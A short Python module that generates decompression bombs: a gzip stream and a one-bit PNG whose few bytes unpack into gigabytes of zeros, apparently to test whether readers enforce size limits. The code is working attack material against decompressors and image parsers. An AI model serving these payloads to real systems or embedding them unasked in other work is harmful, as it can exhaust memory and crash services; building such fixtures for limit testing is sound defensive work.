"""Decompression bombs: small answers that would fill the memory of whoever unpacks them unwarily.

Both are complete and valid: nothing but a limit stops a reader.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from functools import lru_cache

_BLOCK = bytes(1 << 20)

Checksum = Callable[[bytes, int], int]


@lru_cache(maxsize=2)
def gzip_bomb(n_bytes: int) -> bytes:
    """Return ``n_bytes`` zero bytes in gzip's format (RFC 1952), about a thousandth of that."""
    packed, checksum = _packed_zeros(n_bytes, zlib.crc32, 0)
    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return head + packed + struct.pack("<II", checksum, n_bytes & 0xFFFFFFFF)


@lru_cache(maxsize=2)
def png_bomb(side: int) -> bytes:
    """Return a black picture of ``side`` times ``side`` pixels of one bit as PNG."""
    rows = side * (1 + -(-side // 8))  # A filter byte before every row.
    packed, checksum = _packed_zeros(rows, zlib.adler32, 1)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    data = b"\x78\xda" + packed + struct.pack(">I", checksum)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _packed_zeros(n_bytes: int, checksum: Checksum, start: int) -> tuple[bytes, int]:
    """Return a raw deflate stream of zero bytes and their checksum, packing one block only."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush a block refers to nothing before it, so that it can be repeated.
    block = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(n_bytes, len(_BLOCK))
    value = start
    for _ in range(whole):
        value = checksum(_BLOCK, value)
    last = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    end = last.compress(_BLOCK[:rest]) + last.flush()
    return block * whole + end, checksum(_BLOCK[:rest], value)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
